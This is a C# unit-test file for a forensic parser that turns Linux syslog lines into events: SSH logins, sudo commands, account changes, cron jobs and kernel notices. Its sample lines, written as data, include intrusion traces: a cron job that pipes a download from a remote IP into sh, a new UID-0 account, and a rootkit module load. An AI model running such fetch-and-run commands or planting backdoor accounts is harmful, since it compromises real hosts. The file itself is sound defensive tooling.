using Forensics.Parsers.Artifacts.Linux.Logs;
using Xunit;

namespace Forensics.Parsers.Tests.Artifacts.Linux.Logs;

/// <summary>Messages as the programs write them: texts from their sources and from real hosts.</summary>
public sealed class SyslogMessagesTests
{
    [Theory]
    [InlineData("sshd[812]: Accepted publickey for root from 192.0.2.7 port 59915 ssh2: ED25519 SHA256:5xyQ+PG1Z3CIiShclJ2iNya5TOdKDgE/HrOXr21IdOo", "publickey", "root", "192.0.2.7", 59915L, "SHA256:5xyQ+PG1Z3CIiShclJ2iNya5TOdKDgE/HrOXr21IdOo")]
    [InlineData("sshd-session[812]: Accepted password for bob from 2001:db8::1 port 22 ssh2", "password", "bob", "2001:db8::1", 22L, null)]
    [InlineData("sshd[3]: Accepted publickey for fred from 192.0.2.60 port 60594 ssh2: RSA e8:31:68:c7:01:2d:25:20:36:8f:50:5d:f9:ee:70:4c", "publickey", "fred", "192.0.2.60", 60594L, "e8:31:68:c7:01:2d:25:20:36:8f:50:5d:f9:ee:70:4c")]
    [InlineData("sshd[3]: Accepted publickey for a from 192.0.2.60 port 1 ssh2: RSA-CERT ID key-1 (serial 7) CA ED25519 SHA256:abc", "publickey", "a", "192.0.2.60", 1L, "SHA256:abc")]
    [InlineData("dropbear[9]: Password auth succeeded for 'root' from 192.0.2.5:43210", "password", "root", "192.0.2.5", 43210L, null)]
    [InlineData("dropbear[9]: Pubkey auth succeeded for 'root' with ssh-ed25519 key SHA256:abc from 192.0.2.5:43210", "publickey", "root", "192.0.2.5", 43210L, "SHA256:abc")]
    public void A_login_names_account_address_method_and_key(string message, string method, string user, string address, long port, string? key)
    {
        LogEvent found = LogRun.One(message);

        Assert.Equal(LogEventKind.Login, found.Event);
        Assert.Equal((method, user, address, port, key), (found.Method, found.User, found.RemoteAddress, found.RemotePort, found.KeyFingerprint));
        Assert.Equal("2024-03-09T10:00:00", LogRun.TimeOf(found));
        Assert.Equal(LogTimeBasis.YearInferred | LogTimeBasis.ZoneAssumed, found.First!.Value.Basis);
        Assert.Equal(1, found.Location.Line);
    }

    [Theory]
    [InlineData("sshd[1]: Failed password for root from 203.0.113.9 port 4000 ssh2", "root", "203.0.113.9", null)]
    [InlineData("sshd[1]: Failed password for invalid user admin from 203.0.113.9 port 4000 ssh2", "admin", "203.0.113.9", "unknown account")]
    [InlineData("sshd[1]: Invalid user oracle from 203.0.113.9 port 4000", "oracle", "203.0.113.9", "unknown account")]
    [InlineData("sshd[1]: Failed password for invalid user x from 192.0.2.1 port 22 ssh2 from 203.0.113.9 port 4000 ssh2", "x from 192.0.2.1 port 22 ssh2", "203.0.113.9", "unknown account")]
    [InlineData("sshd[1]: Connection closed by authenticating user root 203.0.113.9 port 4000 [preauth]", "root", "203.0.113.9", "gave up")]
    [InlineData("sshd[1]: error: maximum authentication attempts exceeded for root from 203.0.113.9 port 4000 ssh2 [preauth]", "root", "203.0.113.9", "too many attempts")]
    [InlineData("sshd[1]: User bob from 203.0.113.9 not allowed because not listed in AllowUsers", "bob", "203.0.113.9", "not listed in AllowUsers")]
    [InlineData("sshd[1]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.9  user=root", "root", "203.0.113.9", "authentication failure")]
    [InlineData("dropbear[1]: Bad password attempt for 'root' from 203.0.113.9:5022", "root", "203.0.113.9", null)]
    [InlineData("login[1]: FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure", "root", null, "Authentication failure")]
    public void A_refused_login_is_taken_from_the_right_because_the_name_is_the_attackers(string message, string user, string? address, string? detail)
    {
        LogEvent found = LogRun.One(message);

        Assert.Equal(LogEventKind.LoginFailed, found.Event);
        Assert.Equal((user, address, detail), (found.User, found.RemoteAddress, found.Detail));
    }

    [Theory]
    [InlineData("sudo:     bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/sh -c id ; id", "sudo", "bob", "root", "/bin/sh -c id ; id", null)]
    [InlineData("sudo[77]: eve : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls", "sudo", "eve", "root", "/bin/ls", "refused: 3 incorrect password attempts")]
    [InlineData("sudo: eve : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls", "sudo", "eve", "root", "/bin/ls", "refused: user NOT in sudoers")]
    [InlineData("su[5]: (to root) bob on pts/1", "su", "bob", "root", null, null)]
    [InlineData("su: FAILED SU (to root) bob on pts/1", "su", "bob", "root", null, "refused")]
    [InlineData("su[5]: Successful su for root by bob", "su", "bob", "root", null, null)]
    [InlineData("doas: bob ran command /bin/sh as root from /home/bob", "doas", "bob", "root", "/bin/sh", null)]
    [InlineData("pkexec[4]: bob: Executing command [USER=root] [TTY=unknown] [CWD=/home/bob] [COMMAND=/usr/bin/id]", "pkexec", "bob", "root", "/usr/bin/id", null)]
    public void A_command_as_another_account_is_kept_whole(string message, string method, string user, string target, string? command, string? detail)
    {
        LogEvent found = LogRun.One(message);

        Assert.Equal(LogEventKind.PrivilegedCommand, found.Event);
        Assert.Equal((method, user, target, command, detail), (found.Method, found.User, found.Target, found.Command, found.Detail));
    }

    [Theory]
    [InlineData("useradd[9]: new user: name=bob, UID=0, GID=0, home=/tmp/x, shell=/bin/bash, from=/dev/pts/1", LogEventKind.AccountCreated, "bob")]
    [InlineData("useradd[9]: new group: name=bob, GID=1001", LogEventKind.GroupChanged, "bob")]
    [InlineData("useradd[9]: add 'bob' to group 'sudo'", LogEventKind.GroupChanged, "sudo")]
    [InlineData("usermod[9]: change user 'bob' UID from '1001' to '0'", LogEventKind.AccountChanged, "bob")]
    [InlineData("usermod[9]: change user 'bob' password", LogEventKind.PasswordChanged, "bob")]
    [InlineData("userdel[9]: delete user 'bob'", LogEventKind.AccountDeleted, "bob")]
    [InlineData("groupadd[9]: group added to /etc/group: name=x, GID=5", LogEventKind.GroupChanged, "x")]
    [InlineData("gpasswd[9]: user bob added by root to group docker", LogEventKind.GroupChanged, "docker")]
    [InlineData("passwd[9]: pam_unix(passwd:chauthtok): password changed for bob", LogEventKind.PasswordChanged, "bob")]
    [InlineData("chpasswd[9]: pam_unix(chpasswd:chauthtok): password changed for root", LogEventKind.PasswordChanged, "root")]
    [InlineData("passwd: password for root changed by root", LogEventKind.PasswordChanged, "root")]
    [InlineData("chage[9]: changed password expiry for bob", LogEventKind.AccountChanged, "bob")]
    public void Changes_of_accounts_name_what_was_changed(string message, LogEventKind kind, string target)
    {
        LogEvent found = LogRun.One(message);

        Assert.Equal(kind, found.Event);
        Assert.Equal(target, found.Target);
    }

    [Fact]
    public void A_new_account_keeps_its_number_home_and_shell()
    {
        LogEvent found = LogRun.One("useradd[9]: new user: name=bob, UID=0, GID=0, home=/tmp/x, shell=/bin/bash, from=/dev/pts/1");

        Assert.Equal(0, found.UserId);
        Assert.Contains("home=/tmp/x, shell=/bin/bash", found.Detail, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("CRON[31051]: (root) CMD (curl http://198.51.100.7/x(1).sh | sh)", "root", "curl http://198.51.100.7/x(1).sh | sh")]
    [InlineData("/usr/sbin/cron[31051]: (bob) CMD (  cd / && run-parts --report /etc/cron.hourly)", "bob", "  cd / && run-parts --report /etc/cron.hourly")]
    [InlineData("CROND[5]: (root) CMD (/usr/lib64/sa/sa1 1 1)", "root", "/usr/lib64/sa/sa1 1 1")]
    [InlineData("cron.info crond[5]: USER root pid 77 cmd run-parts /etc/periodic/15min", "root", "run-parts /etc/periodic/15min")]
    public void A_run_of_cron_keeps_the_command_of_a_job_that_may_be_gone(string message, string user, string command)
    {
        LogEvent found = LogRun.One(message);

        Assert.Equal(LogEventKind.CronRun, found.Event);
        Assert.Equal((user, command), (found.User, found.Command));
    }

    [Theory]
    [InlineData("crontab[5]: (root) REPLACE (bob)", LogEventKind.CronTableChanged, "REPLACE")]
    [InlineData("systemd[1]: Started evil.service - Totally normal.", LogEventKind.ServiceStarted, "Totally normal")]
    [InlineData("systemd[1]: evil.service: Failed with result 'exit-code'.", LogEventKind.ServiceFailed, "exit-code")]
    [InlineData("systemd[1]: Stopped System Logging Service.", LogEventKind.ServiceStopped, "System Logging Service")]
    [InlineData("systemd-logind[400]: System is rebooting.", LogEventKind.Shutdown, "System is rebooting.")]
    [InlineData("kernel: [    0.000000] Linux version 6.1.0-18-amd64 (debian-kernel@lists.debian.org) #1 SMP", LogEventKind.Boot, "6.1.0-18-amd64")]
    [InlineData("kernel: [   55.120000] diamorphine: loading out-of-tree module taints kernel.", LogEventKind.KernelModule, "loading out-of-tree module taints kernel.")]
    [InlineData("kernel: device eth0 entered promiscuous mode", LogEventKind.KernelNotice, "device eth0 entered promiscuous mode")]
    [InlineData("kernel: audit: type=1130 audit(1710000000.123:45): pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=cron comm=\"systemd\" exe=\"/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success'", LogEventKind.ServiceStarted, null)]
    [InlineData("rsyslogd: [origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"500\" x-info=\"https://www.rsyslog.com\"] start", LogEventKind.LoggerChanged, "started")]
    [InlineData("systemd-journald[200]: Suppressed 1234 messages from app.service", LogEventKind.LogGap, "Suppressed 1234 messages from app.service")]
    [InlineData("chronyd[7]: System clock was stepped by -3600.0 seconds", LogEventKind.ClockChanged, "System clock was stepped by -3600.0 seconds")]
    public void Services_kernel_and_loggers(string message, LogEventKind kind, string? detail)
    {
        LogEvent found = LogRun.One(message);

        Assert.Equal(kind, found.Event);
        Assert.Equal(detail, found.Detail);
    }

    [Theory]
    [InlineData("systemd[1]: Starting Daily apt download activities...")]
    [InlineData("systemd[1]: Started session-3.scope - Session 3 of User root.")]
    [InlineData("sshd[1]: Received disconnect from 192.0.2.1 port 5: 11: Bye")]
    [InlineData("myapp[1]: Accepted publickey for root from 192.0.2.7 port 1 ssh2")]
    [InlineData("sshd[1]: Accepted")]
    [InlineData("sshd[1]: Failed password for")]
    [InlineData("sudo: ")]
    [InlineData("sudo: a : b")]
    [InlineData("CRON[1]: (root")]
    [InlineData("useradd[1]: new user: name=")]
    [InlineData("[")]
    [InlineData(":")]
    [InlineData("()[1]: x")]
    [InlineData("sshd[1]: message repeated 1 times: []")]
    [InlineData("sshd[1]: message repeated 1 times: [")]
    public void What_means_nothing_or_is_cut_short_gives_no_event(string message)
    {
        Assert.Empty(LogRun.Syslog("Mar  9 10:00:00 web01 " + message + "\n"));
    }

    [Fact]
    public void Sessions_are_counted_together_and_repeated_messages_count_as_often_as_they_say()
    {
        List<LogEvent> found = LogRun.Syslog("""
            Mar  9 10:00:00 h CRON[1]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
            Mar  9 11:00:00 h CRON[2]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)
            Mar  9 11:00:01 h sshd[3]: message repeated 5 times: [ Failed password for root from 203.0.113.9 port 4000 ssh2]

            """);

        Assert.Equal(2, found.Count);
        Assert.Equal(("pam_unix(cron)", 2L), (found[0].Method, found[0].Count));
        Assert.Equal("2024-03-09T11:00:00", found[0].Last!.Value.Instant.ToString()[..19]);
        Assert.Equal(5, found[1].Count);
        Assert.Equal("203.0.113.9", found[1].RemoteAddress);
    }
}
